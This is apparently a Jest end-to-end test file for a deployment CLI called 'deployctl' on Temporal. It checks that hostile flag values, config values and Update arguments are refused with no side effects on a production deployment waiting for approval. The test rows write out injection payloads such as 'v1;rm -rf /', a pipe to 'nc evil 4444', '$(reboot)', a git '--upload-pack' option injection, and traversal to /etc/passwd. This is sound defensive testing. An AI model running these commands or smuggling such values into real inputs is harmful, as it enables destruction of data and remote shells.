/**
 * Hostile input end to end: the real deployctl, a real Temporal server and a worker (activities
 * stubbed), with a production deployment waiting for approval. Each row is refused with a clear
 * error (exit 2 naming the field, the value where it can be shown, and the rule) and has no side
 * effect: the waiting deployment's history does not grow, no workflow or schedule appears, and
 * at the end that deployment is still waiting and an allowed approver can still approve it.
 * tests/unit/hostileInput.test.ts holds the larger table at the validators themselves.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type Client, WorkflowUpdateFailedError, type WorkflowHandle } from '@temporalio/client';
import { parse, stringify } from 'yaml';
import { startOrAttach } from '../../src/client/deploy';
import { ExitCode } from '../../src/client/exitCodes';
import { abortUpdate, approveUpdate, deploymentStatusQuery } from '../../src/shared/messages';
import type { Settings } from '../../src/shared/settings';
import { startApprovalStack, type ApprovalStack } from './approvalStack';
import { runDeployctl, type CliRun } from './testEnv';

jest.setTimeout(300_000);

const ROOT = join(__dirname, '..', '..');
const FIXTURES = join(ROOT, 'tests', 'fixtures', 'environments');
const APPROVERS = ['alice', 'bob'];

let stack: ApprovalStack;
let configDir: string;
let settings: Settings;
let client: Client;
let held: WorkflowHandle;
/** The workflows that run before any row: the held deployment and its environment's lease. */
let workflowsBefore: number;

beforeAll(async () => {
  configDir = mkdtempSync(join(tmpdir(), 'hostile-config-'));
  stack = await startApprovalStack({ name: 'hostile-input', approvers: APPROVERS });
  ({ settings, client } = stack);
  const request = { environment: 'production', release: 'held', images: { site: 'v2' }, requestedBy: 'ci' };
  ({ handle: held } = await startOrAttach(client, settings, request));
  await waitingForApproval(held);
  ({ workflows: workflowsBefore } = await sideEffects());
}, 180_000);

afterAll(async () => {
  await stack?.stop();
  if (configDir) rmSync(configDir, { recursive: true, force: true });
}, 60_000);

async function waitingForApproval(handle: WorkflowHandle, timeoutMs = 30_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  let last: unknown;
  while (Date.now() < deadline) {
    try {
      const status = await handle.query(deploymentStatusQuery);
      if (status.approval?.state === 'waiting') return;
      last = status;
    } catch (err) {
      last = err;
    }
    await new Promise((r) => setTimeout(r, 200));
  }
  throw new Error(
    `${handle.workflowId} is not waiting for approval after ${timeoutMs} ms: ${JSON.stringify(last)}`,
  );
}

/** The real deployctl against this test's Temporal, as CI and operators run it; bounded. */
function deployctl(args: string[]): Promise<CliRun> {
  return runDeployctl(args, {
    TEMPORAL_ADDRESS: settings.temporalAddress,
    DEPLOY_TASK_QUEUE: settings.taskQueue,
    DEPLOY_CONFIG_DIR: configDir,
  });
}

/** What a row must leave as it was: the held deployment's history, the workflows, the schedules. */
async function sideEffects(): Promise<{ heldEvents: number; workflows: number; schedules: number }> {
  const { historyLength } = await held.describe();
  let workflows = 0;
  for await (const _ of client.workflow.list()) workflows++;
  let schedules = 0;
  for await (const _ of client.schedule.list()) schedules++;
  return { heldEvents: historyLength, workflows, schedules };
}

/** A production config whose one key at `path` is hostile, for the commands that read configs. */
function hostileConfig(path: (string | number)[], value: unknown): void {
  const doc = parse(readFileSync(join(FIXTURES, 'staging.yaml'), 'utf8')) as Record<string, unknown>;
  let at: Record<string | number, unknown> = doc;
  for (const key of path.slice(0, -1)) at = at[key] as Record<string | number, unknown>;
  at[path[path.length - 1]] = value;
  doc.backups = { schedule: { every: '6h' }, retention: { keepLast: 3 } };
  writeFileSync(join(configDir, 'production.yaml'), stringify(doc));
}

const deploy = (...flags: string[]) => {
  const base: Record<string, string> = {
    '--env': 'production',
    '--release': 'v9',
    '--image': 'site=v9',
    '--by': 'ci',
  };
  const given = new Set(flags.filter((f) => f.startsWith('--')).map((f) => f.split('=')[0]));
  return [
    'deploy',
    ...Object.entries(base).flatMap(([k, v]) => (given.has(k) ? [] : [k, v])),
    ...flags,
    '--worker-wait',
    '5',
  ];
};
const decide = (verb: 'approve' | 'abort', ...flags: string[]) => [verb, ...flags];
const onHeld = ['--env', 'production', '--release', 'held'];

type CliRow = [what: string, args: string[], expected: RegExp, setup: (() => void) | null];

const row = (what: string, args: string[], expected: RegExp, setup?: () => void): CliRow => [
  what,
  args,
  expected,
  setup ?? null,
];

const cliRows: CliRow[] = [
  row('deploy --env with a command substitution', deploy('--env', '$(reboot)'), /--env.*"\$\(reboot\)"/),
  row('deploy --env with a path', deploy('--env', '../prod'), /--env.*"\.\.\/prod"/),
  row(
    'deploy --release with a command separator',
    deploy('--release', 'v1;rm -rf /'),
    /--release.*v1;rm -rf \//,
  ),
  row('deploy --release with a newline', deploy('--release', 'v1\nid'), /--release/),
  row(
    'deploy --image with a pipe',
    deploy('--image', 'site=v1|nc evil 4444'),
    /--image site=.*v1\|nc evil 4444/,
  ),
  row(
    'deploy --image with a traversing service',
    deploy('--image', '../site=v1'),
    /--image \.\.\/site=.*must be lowercase/,
  ),
  row('deploy --by with a variable', deploy('--by', '${HOME}'), /--by.*\$\{HOME\}/),
  row(
    'deploy --commit as an option of git',
    deploy('--commit=--upload-pack=evil'),
    /--commit.*git sha or tag/,
  ),
  row('deploy --strategy unknown', deploy('--strategy', 'yolo'), /--strategy.*yolo/),
  row(
    'deploy --timeout negative',
    deploy('--timeout=-5'),
    /--timeout.*'-5' is invalid.*positive whole number/,
  ),
  row('deploy with an unknown flag', deploy('--force'), /unknown option '--force'/),
  row(
    'rollback --to with a command separator',
    ['rollback', '--env', 'production', '--to', 'v1;id', '--by', 'ci'],
    /--to.*v1;id/,
  ),
  row('backup --env with a path', ['backup', '--env', '../prod', '--by', 'ci'], /--env.*"\.\.\/prod"/),
  row(
    "drill --backup outside the environment's backups",
    ['drill', '--env', 'production', '--backup', 'production-../../etc/passwd', '--by', 'ci'],
    /--backup.*production-\.\.\/\.\.\/etc\/passwd/,
  ),
  row(
    'approve --by with a space',
    decide('approve', ...onHeld, '--by', 'alice smith'),
    /--by: value "alice smith" must be a user name/,
  ),
  row(
    'approve --by with a quote',
    decide('approve', ...onHeld, '--by', 'o"brien'),
    /--by: value "o\\"brien"/,
  ),
  row(
    'approve --by with a NUL-free escape',
    decide('approve', ...onHeld, '--by', 'ops\u001b[2J'),
    /--by: value "ops\\u001b\[2J"/,
  ),
  row(
    'abort --reason over 500 characters',
    decide('abort', ...onHeld, '--by', 'alice', '--reason', 'x'.repeat(501)),
    /--reason.*at most 500 characters/,
  ),
  row(
    'approve --id with a terminal escape',
    decide('approve', '--id', 'deploy-\u001b[2J', '--by', 'alice'),
    /--id: value .* must be a workflow id/,
  ),
  row(
    'approve by someone outside approval.approvers',
    decide('approve', ...onHeld, '--by', 'mallory'),
    /mallory may not approve deployments of production \(approval\.approvers: alice, bob\)/,
  ),
  row(
    'schedules apply with a shell in a host address (YAML)',
    ['schedules', 'apply'],
    /hosts\.0\.address: value "web-1;id" must be a hostname or IP address/,
    () => hostileConfig(['hosts', 0, 'address'], 'web-1;id'),
  ),
  row(
    'schedules apply with a compose file outside the app (YAML)',
    ['schedules', 'apply'],
    /composeFiles\.0: value "\/etc\/passwd" must be a relative/,
    () => hostileConfig(['composeFiles', 0], '/etc/passwd'),
  ),
];

test.each(cliRows)(
  '%s: exit 2, the field and the rule named, nothing started or recorded',
  async (_what, args, expected, setup) => {
    setup?.();
    const before = await sideEffects();
    const run = await deployctl(args);
    expect({ code: run.code, out: run.out }).toEqual({
      code: ExitCode.invalidInput,
      out: expect.stringMatching(expected),
    });
    expect(await sideEffects()).toEqual(before);
  },
);

/** The validator's reason: the client reports "Workflow Update failed" with it as the cause. */
async function updateRefusal(sent: Promise<unknown>): Promise<string> {
  try {
    await sent;
  } catch (err) {
    if (!(err instanceof WorkflowUpdateFailedError)) throw err;
    return err.cause?.message ?? '(no cause)';
  }
  throw new Error('the Update was accepted');
}

/** Update arguments as the Web UI's "Send an Update" sends them: any JSON at all. */
const updateRows: [update: 'approve' | 'abort', what: string, arg: unknown, expected: RegExp][] = [
  ['approve', 'a NUL byte in by', { by: 'ops\u0000root' }, /"by" "ops\\u0000root" must be a user name/],
  [
    'approve',
    'a comment over 500 characters',
    { by: 'alice', comment: 'x'.repeat(501) },
    /"comment" must be text of at most 500/,
  ],
  ['approve', 'an unknown key', { by: 'alice', run: '$(id)' }, /unknown key\(s\) "run" are not allowed/],
  ['approve', 'a bare string', 'alice', /argument must be \{"by"/],
  ['approve', 'an approver outside approval.approvers', { by: 'mallory' }, /mallory may not approve/],
  [
    'abort',
    "the CLI's flag name as a key",
    { by: 'alice', reason: 'oops' },
    /unknown key\(s\) "reason" are not allowed/,
  ],
  ['abort', 'HTML in by', { by: '<img src=x>' }, /"by" "<img src=x>" must be a user name/],
];

test.each(updateRows)(
  'the %s Update with %s is refused by its validator and never enters history',
  async (update, _what, arg, expected) => {
    const before = await sideEffects();
    const sent = held.executeUpdate(update === 'approve' ? approveUpdate : abortUpdate, {
      args: [arg as never],
    });
    expect(await updateRefusal(sent)).toMatch(expected);
    expect(await sideEffects()).toEqual(before);
  },
);

test('after all of it the deployment still waits, and an allowed approver lets it finish', async () => {
  // Visibility is eventually consistent: a workflow a row had started would show by now.
  await new Promise((r) => setTimeout(r, 2000));
  const { workflows } = await sideEffects();
  expect(workflows).toBe(workflowsBefore);
  await waitingForApproval(held);
  const approved = await deployctl(decide('approve', ...onHeld, '--by', 'alice'));
  expect({ code: approved.code, out: approved.out }).toMatchObject({ code: ExitCode.succeeded });
  await held.result();
  const status = await held.query(deploymentStatusQuery);
  expect(status.approval).toMatchObject({ state: 'approved', decision: { by: 'alice' } });
});
